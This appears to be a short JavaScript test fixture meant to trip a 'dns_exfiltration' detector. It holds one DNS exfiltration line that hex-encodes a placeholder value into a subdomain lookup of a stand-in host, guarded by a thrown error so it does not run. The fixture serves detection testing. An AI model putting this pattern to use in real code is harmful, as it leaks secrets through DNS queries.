// Trips dns_exfiltration.
throw new Error("a fixture: never run");
dns.lookup(Buffer.from(PLACEHOLDER).toString("hex") + ".example.invalid");
